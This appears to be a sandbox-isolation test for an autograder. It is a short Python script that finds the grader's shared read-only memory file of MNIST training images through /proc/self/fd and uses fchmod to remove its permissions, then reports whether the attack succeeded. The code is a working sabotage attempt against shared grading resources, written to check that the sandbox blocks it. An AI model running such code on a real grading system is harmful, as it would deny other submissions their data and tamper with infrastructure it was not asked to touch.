"""Goal: keep all later submissions from opening the training images, by taking their permissions away.

Assignment: ps5_mnist
Without a sandbox: unsafe
"""

import os


def training_images():
    """Return the descriptor of the memory that all submissions of a batch map."""
    for name in os.listdir("/proc/self/fd"):
        try:
            if "memfd:read-only" in os.readlink(f"/proc/self/fd/{name}"):
                return int(name)
        except OSError:
            continue
    raise RuntimeError("stopped by: the training images cannot be found")


def attempt():
    try:
        os.fchmod(training_images(), 0)  # whose file it is, may do so
    except OSError as error:
        raise RuntimeError(f"stopped by: {error!r}") from None
    raise RuntimeError("ATTACK SUCCEEDED: nobody can open the training images any more")


attempt()
